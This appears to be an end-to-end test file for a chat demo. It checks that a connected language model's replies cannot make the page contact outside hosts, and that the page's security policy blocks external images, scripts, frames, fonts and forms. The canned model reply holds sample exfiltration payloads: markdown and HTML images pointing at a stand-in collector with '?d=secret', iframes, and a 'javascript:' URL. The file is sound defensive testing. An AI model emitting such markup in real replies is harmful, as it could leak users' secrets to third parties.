import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright';
import { afterAll, afterEach, beforeAll, beforeEach, describe, inject, it } from 'vitest';
import { type OpenAiServer, startOpenAiServer } from '../support/openai-server.js';
import { Demo, expect, startBrowser } from './support.js';

let browser: Browser;
let demo: Demo;
let model: OpenAiServer | undefined;
/** What a stranger listens with, and the addresses that it was asked for. */
let collector: Server;
let collected: string[];

beforeAll(async () => {
  browser = await startBrowser();
});
beforeEach(async () => {
  collected = [];
  collector = createServer(({ url = '' }, response) => {
    collected.push(url);
    response.writeHead(200, { 'content-type': 'image/svg+xml', 'access-control-allow-origin': '*' });
    response.end('<svg xmlns="http://www.w3.org/2000/svg"/>');
  });
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  demo = await Demo.open(browser, { permissions: ['local-network-access'] });
});
afterEach(async () => {
  await demo.close();
  await model?.close();
  model = undefined;
  collector.closeAllConnections();
  await new Promise((resolve) => collector.close(resolve));
});
afterAll(async () => {
  await browser.close();
});

const elsewhere = (): string => `http://127.0.0.1:${(collector.address() as AddressInfo).port}`; // it listens on TCP

/** Lets a model of the person's own say this. */
async function modelSays(text: string): Promise<OpenAiServer> {
  const server = await startOpenAiServer({ turns: [{ text }] });
  model = server;
  await demo.page.getByRole('button', { name: /Connect a model/ }).click();
  await demo.page.getByLabel('Base URL').fill(server.baseURL);
  await demo.page.getByRole('textbox', { name: 'Model' }).fill('test-model');
  await demo.page.getByRole('button', { name: 'Connect', exact: true }).click();
  await expect(demo.page.getByRole('dialog')).toBeHidden();
  return server;
}

describe('text of a model', () => {
  it('C124 makes no request: pictures are named, and links wait for a press', async () => {
    const there = elsewhere();
    const here = inject('demoUrl');
    const server = await modelSays(
      [
        `![a chart](${there}/?d=secret) and ![](${there}/empty.png) and ![own](/icon.svg?d=secret)`,
        `![by reference][r] ![data](data:image/svg+xml,<svg/>) ![script](javascript:alert(1))`,
        `<img src="${there}/html.png"> <link rel="stylesheet" href="${there}/html.css"> <iframe src="${there}/frame"></iframe>`,
        `[Our site](${there}/link) and [an image link ![inner](${there}/inner.png)](${there}/outer)`,
        `[r]: ${there}/reference.png`,
        'The end.',
      ].join('\n\n'),
    );
    const requested: string[] = [];
    demo.page.on('request', (request) => requested.push(request.url()));

    await demo.say('Show me');
    await demo.ended('agent finished');
    const log = demo.page.getByRole('log');
    await expect(log.getByText('The end.')).toBeVisible();

    const isOwn = (url: string): boolean => url.startsWith(`${here}/`) && /\.(?:js|css)$/.test(url);
    expect(requested.filter((url) => !isOwn(url) && !url.startsWith(`${server.origin}/v1/`))).toEqual([]);
    expect(collected).toEqual([]);
    await expect(log.locator('img, picture, iframe, object, embed, video, audio, source, link')).toHaveCount(0);
    await expect(log.getByText('a chart')).toBeVisible();
    const link = log.getByRole('link', { name: 'Our site' });
    await expect(link).toHaveAttribute('rel', /noreferrer/);
    await expect(link).toHaveAttribute('target', '_blank');
    await expect(log.getByText(new URL(there).host).first()).toBeVisible();
  });

  it('C124 is also restricted by the page: no external picture, frame, font or form, and no DNS prefetch', async () => {
    const there = elsewhere();
    await expect(demo.page.locator('meta[http-equiv=x-dns-prefetch-control][content=off]')).toHaveCount(1);

    const blocked = await demo.page.evaluate(async (origin) => {
      const violations = new Set<string>();
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        violations.add(effectiveDirective),
      );
      const add = (tag: string, members: object): Promise<unknown> => {
        const element = Object.assign(document.createElement(tag), members);
        const settled = new Promise((resolve) => {
          for (const name of ['load', 'error']) element.addEventListener(name, resolve);
        });
        document.body.append(element);
        return settled;
      };
      await add('img', { src: `${origin}/?d=secret` });
      await add('link', { rel: 'stylesheet', href: `${origin}/style.css` });
      await add('script', { src: `${origin}/script.js` });
      await add('iframe', { src: `${origin}/frame` });
      await new FontFace('Stranger', `url(${origin}/font)`).load().catch(() => {});
      const form = Object.assign(document.createElement('form'), { action: `${origin}/form` });
      document.body.append(form);
      form.submit();
      while (!violations.has('form-action')) await new Promise(requestAnimationFrame);
      return [...violations].sort();
    }, there);

    expect(blocked).toEqual(['font-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem', 'style-src-elem']);
    expect(collected).toEqual([]);
  });
});
